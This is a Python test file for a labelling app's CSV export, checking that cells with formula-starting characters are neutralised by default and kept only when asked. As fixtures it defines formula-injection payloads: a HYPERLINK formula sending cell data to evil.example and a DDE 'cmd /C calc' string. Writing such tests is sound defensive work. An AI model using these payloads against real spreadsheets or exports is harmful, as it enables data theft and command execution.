"""CSV formula injection: a CSV export must not hand a spreadsheet a cell it would run as a
formula. Every text cell starting with = + - @, a tab or a carriage return gets a ``'`` in
front by default (OWASP's advice), over the API and the CLI; ``csv_formulas=keep`` /
``--csv-keep-formulas`` writes the values exactly; numbers and the JSON formats are left
alone. Real database, real HTTP app, real CLI."""

from __future__ import annotations

import csv
import io
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner

from labelhouse.accounts.models import Role
from labelhouse.cli.main import app as cli_app
from labelhouse.exports.writers import neutralise_formula
from tests.factories import add_member, login, make_org, make_project, token_client
from tests.helpers_data import jsonl_bytes

# One payload per dangerous first character.
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
TEXTS = [p + 'HYPERLINK("http://evil.example/?"&A1,"x")' for p in PREFIXES]
IDS = [p + f"id{i}" for i, p in enumerate(PREFIXES)]
CHOICES = [p + f"cmd|' /C calc'!A{i}" for i, p in enumerate(PREFIXES)]
NOTES = [p + "SUM(1,2)" for p in PREFIXES]
# Cells that start with - or + but are plain numbers: spreadsheets show them as numbers.
NUMBERS = ["-3", "+1.5", "-0.25e3"]

SCHEMA = {
    "fields": [
        {
            "name": "label",
            "kind": "choice",
            "reads": ["text"],
            "options": [{"value": v} for v in CHOICES] + [{"value": "plain"}],
        },
        {"name": "note", "kind": "text", "required": False},
    ]
}


@pytest.fixture
def world(app, db) -> dict[str, Any]:
    """A task per dangerous prefix (text, external id), each answered with a dangerous
    choice and note; then tasks whose text is a plain number, answered with a number."""
    owner = make_org(db)
    pid = make_project(db, owner, schema=SCHEMA, name="Injection")
    api = token_client(app, db, owner)
    rows = [{"external_id": i, "text": t} for i, t in zip(IDS, TEXTS, strict=True)]
    rows += [{"external_id": f"n{i}", "text": n} for i, n in enumerate(NUMBERS)]
    r = api.post(f"/api/projects/{pid}/import?format=jsonl", content=jsonl_bytes(rows))
    assert r.status_code == 200, r.text
    annotator = login(app, add_member(db, owner, Role.annotator))
    answers = [{"label": c, "note": n} for c, n in zip(CHOICES, NOTES, strict=True)]
    answers += [{"label": "plain", "note": n} for n in NUMBERS]
    for answer in answers:
        task_id = annotator.post(f"/api/projects/{pid}/next").json()["task"]["id"]
        r = annotator.post(f"/api/tasks/{task_id}/annotations", json={"value": answer})
        assert r.status_code == 200, r.text
    return {"pid": pid, "api": api}


def table(content: bytes) -> list[dict[str, str]]:
    """The export parsed back by the csv module (it must round-trip: quoting intact)."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert all(len(r) == len(header) for r in body)
    return [dict(zip(header, r, strict=True)) for r in body]


def dangerous_cells(rows: list[dict[str, str]]) -> dict[str, list[str]]:
    by_id = {r["external_id"].lstrip("'"): r for r in rows}
    assert len(by_id) == len(rows) == len(PREFIXES) + len(NUMBERS)
    picked = [by_id[i] for i in IDS]
    return {
        "external_id": [r["external_id"] for r in picked],
        "text": [r["data.text"] for r in picked],
        "choice": [r["label"] for r in picked],
        "note": [r["note"] for r in picked],
    }


EXPECTED = {"external_id": IDS, "text": TEXTS, "choice": CHOICES, "note": NOTES}


def check_numbers_untouched(rows: list[dict[str, str]]) -> None:
    numbered = sorted(
        (r for r in rows if r["external_id"].startswith("n")), key=lambda r: r["external_id"]
    )
    assert [r["data.text"] for r in numbered] == NUMBERS
    assert [r["note"] for r in numbered] == NUMBERS
    assert all(r["task_id"].isdigit() and r["lead_time_ms"].isdigit() for r in numbered)


def test_api_csv_neutralises_every_dangerous_prefix_by_default(world):
    r = world["api"].get(f"/api/projects/{world['pid']}/export", params={"format": "csv"})
    assert r.status_code == 200, r.text
    rows = table(r.content)
    cells = dangerous_cells(rows)
    for column, values in EXPECTED.items():
        assert cells[column] == ["'" + v for v in values], column
    check_numbers_untouched(rows)


def test_api_csv_keeps_formulas_when_asked(world):
    r = world["api"].get(
        f"/api/projects/{world['pid']}/export", params={"format": "csv", "csv_formulas": "keep"}
    )
    assert r.status_code == 200, r.text
    rows = table(r.content)
    assert dangerous_cells(rows) == EXPECTED
    check_numbers_untouched(rows)


def test_api_refuses_an_unknown_csv_formulas_value(world):
    r = world["api"].get(
        f"/api/projects/{world['pid']}/export", params={"format": "csv", "csv_formulas": "strip"}
    )
    assert r.status_code == 422
    assert "csv_formulas" in r.text and "escape, keep" in r.text


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_json_exports_are_unchanged(world, fmt):
    r = world["api"].get(f"/api/projects/{world['pid']}/export", params={"format": fmt})
    assert r.status_code == 200, r.text
    records = (
        [orjson.loads(line) for line in r.content.splitlines()]
        if fmt == "jsonl"
        else orjson.loads(r.content)
    )
    by_id = {rec["external_id"]: rec for rec in records}
    assert [by_id[i]["data"]["text"] for i in IDS] == TEXTS
    assert [by_id[i]["annotations"][0]["value"] for i in IDS] == [
        {"label": c, "note": n} for c, n in zip(CHOICES, NOTES, strict=True)
    ]


def run_cli(db_url, tmp_path, *args):
    return CliRunner().invoke(
        cli_app,
        [*args, "--data-dir", str(tmp_path / "cli-data")],
        env={"LABELHOUSE_DATABASE_URL": db_url},
        catch_exceptions=False,
    )


def test_cli_csv_neutralises_by_default_and_keeps_with_the_flag(db_url, tmp_path, world):
    pid = str(world["pid"])
    safe, exact = tmp_path / "safe.csv", tmp_path / "exact.csv"
    result = run_cli(db_url, tmp_path, "export", pid, "--format", "csv", "-o", str(safe))
    assert result.exit_code == 0, result.output
    result = run_cli(
        db_url, tmp_path, "export", pid, "--format", "csv", "--csv-keep-formulas", "-o", str(exact)
    )
    assert result.exit_code == 0, result.output

    cells = dangerous_cells(table(safe.read_bytes()))
    for column, values in EXPECTED.items():
        assert cells[column] == ["'" + v for v in values], column
    assert dangerous_cells(table(exact.read_bytes())) == EXPECTED
    check_numbers_untouched(table(safe.read_bytes()))
    api = world["api"]
    assert safe.read_bytes() == api.get(f"/api/projects/{pid}/export?format=csv").content


def test_the_export_page_offers_the_option(app, db):
    owner = make_org(db)
    pid = make_project(db, owner)
    page = login(app, owner).get(f"/projects/{pid}/export")
    assert page.status_code == 200
    assert 'name="csv_formulas" value="keep"' in page.text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-.5", "-.5"),
        ("1e5", "1e5"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected
